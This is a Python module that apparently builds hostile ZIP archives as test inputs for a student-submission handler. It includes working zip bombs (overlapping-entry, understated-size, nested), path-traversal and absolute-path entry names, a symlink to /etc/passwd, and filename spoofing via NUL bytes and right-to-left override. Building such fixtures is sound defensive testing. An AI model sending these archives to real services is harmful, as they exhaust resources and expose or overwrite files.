"""Archives that attack: bombs, lies about sizes and names, and other files under a ZIP's name."""

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import reduce
from operator import xor

PDF = b"%PDF-1.7\n1 0 obj << >> endobj\n%%EOF\n"
GIGABYTE = 2**30
_CHUNK = 2**20


@dataclass(frozen=True)
class Entry:
    """One entry of an archive, with what it may lie about."""

    name: bytes
    data: bytes = PDF
    packed: bytes | None = None
    """The compressed bytes, where they are not made from `data`."""
    crc: int | None = None
    size: int | None = None
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    mode: int = 0
    """The Unix mode of the file."""
    local_name: bytes | None = None
    offset: int | None = None
    """Where the directory says that the entry begins."""

    def head(self) -> tuple[bytes, bytes]:
        """Give what both headers share, and the packed bytes."""
        packed = deflated([self.data]) if self.packed is None else self.packed
        crc = zlib.crc32(self.data) if self.crc is None else self.crc
        size = len(self.data) if self.size is None else self.size
        times = (0, 33)
        shared = (20, self.flags, self.method, *times, crc, len(packed), size, len(self.name), 0)
        return struct.pack("<5H3L2H", *shared), packed


def zipped(*entries: Entry, prefix: bytes = b"") -> bytes:
    """Write an archive byte for byte as the entries say."""
    out, directory = bytearray(prefix), bytearray()
    for entry in entries:
        head, packed = entry.head()
        at = len(out) if entry.offset is None else entry.offset
        rest = struct.pack("<3H2L", 0, 0, 0, entry.mode << 16, at)
        directory += b"PK\x01\x02\x14\x03" + head + rest + entry.name
        out += b"PK\x03\x04" + head + (entry.local_name or entry.name) + packed
    return bytes(out + directory) + _end(len(entries), len(directory), len(out))


def _end(count: int, size: int, at: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, at, 0)


def deflated(parts: Iterable[bytes]) -> bytes:
    """Compress without any header around it."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"".join([*map(deflate.compress, parts), deflate.flush()])


def deflated_zeros(size: int) -> bytes:
    """Compress so many zeros, by repeating one compressed chunk: nobody has to hold them."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = deflate.compress(bytes(_CHUNK)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return chunk * (size // _CHUNK) + deflated([bytes(size % _CHUNK)])


def overlapping(stem: str, count: int = 330, size: int = 8_600_000) -> bytes:
    """Let each entry quote the header of the next, so that all share one compressed kernel.

    The construction is D. Fifield's, "A better zip bomb" (WOOT 2019): a stored block of the
    compressed stream holds the next entry's local header, and what follows is that entry.
    """
    behind = _zeros_after(size)
    packed, quoted, unpacked, checksum = deflated_zeros(size), b"", size, behind(0)
    names = [f"{number:03d}".encode() for number in range(1, count)]
    locals_: list[bytes] = []
    entries: list[Entry] = []
    for name in [*reversed(names), f"{stem}.pdf".encode()]:
        entry = Entry(name, packed=packed, crc=checksum, size=unpacked)
        local = b"PK\x03\x04" + entry.head()[0] + name
        locals_.append(local)
        entries.append(entry)
        quoted = local + quoted
        packed = struct.pack("<B2H", 0, len(local), 0xFFFF ^ len(local)) + local + packed
        unpacked, checksum = unpacked + len(local), behind(zlib.crc32(quoted))
    return _overlapped(entries[::-1], [len(local) for local in reversed(locals_)])


def _overlapped(entries: list[Entry], lengths: list[int]) -> bytes:
    """Write the first entry, which holds all others, and a directory that points into it."""
    first, at, block = entries[0], 0, 5
    head, packed = first.head()
    out = b"PK\x03\x04" + head + first.name + packed
    directory = bytearray()
    for entry, length in zip(entries, lengths, strict=True):
        rest = struct.pack("<3H2L", 0, 0, 0, 0, at)
        directory += b"PK\x01\x02\x14\x03" + entry.head()[0] + rest + entry.name
        at += length + block
    return out + directory + _end(len(entries), len(directory), len(out))


def _zeros_after(size: int) -> Callable[[int], int]:
    """Make a function that carries a checksum on over so many zeros; it is linear in its bits."""
    zeros = bytes(size)
    base = zlib.crc32(zeros)
    bits = [zlib.crc32(zeros, 1 << bit) ^ base for bit in range(32)]

    def carry(checksum: int) -> int:
        effects = (effect for bit, effect in enumerate(bits) if checksum >> bit & 1)
        return reduce(xor, effects, base)

    return carry


def understated(stem: str) -> bytes:
    """Declare 751 bytes, with their right checksum, and run on for a gigabyte."""
    entry = Entry(
        f"{stem}.pdf".encode(),
        packed=deflated_zeros(GIGABYTE),
        size=751,
        crc=zlib.crc32(bytes(751)),
    )
    return zipped(entry)


def honest_bomb(stem: str) -> bytes:
    """Declare all of two gigabytes of zeros."""
    entry = Entry(f"{stem}.pdf".encode(), packed=deflated_zeros(2 * GIGABYTE), size=2 * GIGABYTE)
    return zipped(entry)


def nested(stem: str, depth: int = 6, copies: int = 10) -> bytes:
    """Put archives into archives, ten each, over a kernel that is large itself."""
    inner = understated(stem)
    for level in range(depth):
        inner = zipped(*(Entry(b"%d-%d.zip" % (level, n), inner) for n in range(copies)))
    return zipped(Entry(f"{stem}.zip".encode(), inner))


def _named(*names: bytes, **lies: object) -> Callable[[str], bytes]:
    """Make an archive of a PDF under each name; `%s` stands for the student."""

    def build(stem: str) -> bytes:
        return zipped(
            *(Entry(name.replace(b"%s", stem.encode()), **lies) for name in names)  # type: ignore[arg-type] # by name
        )

    return build


def _two_heads(stem: str) -> bytes:
    name = f"{stem}.pdf".encode()
    return zipped(Entry(name, local_name=name[:-3] + b"exe"))


def _noise(_: str) -> bytes:
    return random.Random(5).randbytes(50_000)  # noqa: S311 - the same noise each time


def _gap(stem: str) -> bytes:
    return zipped(Entry(f"{stem}.pdf".encode()), prefix=b"MZ\x90\x00" + bytes(500))


def _with_others(stem: str) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        for number in range(10_000):
            archive.writestr(f"{number}.txt", b"")
        archive.writestr(f"{stem}.pdf", PDF)
    return sink.getvalue()


ATTACKS: dict[str, Callable[[str], bytes]] = {
    "overlap": overlapping,
    "understated": understated,
    "honest": honest_bomb,
    "nested": nested,
    "encrypted": _named(b"%s.pdf", flags=1),
    "strangemethod": _named(b"%s.pdf", method=14),
    "traversal": _named(b"../../%s.pdf"),
    "absolute": _named(b"/tmp/%s.pdf"),
    "drive": _named(b"C:\\%s.pdf"),
    "symlink": _named(b"%s.pdf", data=b"/etc/passwd", mode=stat.S_IFLNK | 0o777),
    "nul": _named(b"%s.pdf\0.exe"),
    "bidi": _named("%s\u202efdp.exe".encode(), flags=0x800),
    "twins": _named(b"%s.pdf", b"%s.pdf"),
    "twoheads": _two_heads,
    "truncated": lambda stem: zipped(Entry(f"{stem}.pdf".encode(), PDF * 50))[:-40],
    "noise": _noise,
    "empty": lambda _: b"",
    "rar": lambda _: b"Rar!\x1a\x07\x01\x00" + bytes(2000),
    "sevenzip": lambda _: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(2000),
    "renamedpdf": lambda _: PDF,
    "tenthousand": _with_others,
    "executable": _gap,
    "farentry": _named(b"%s.pdf", offset=0xFFFFFFF0),
}
"""Archives by name: each makes the bytes of `<stem>.zip`."""
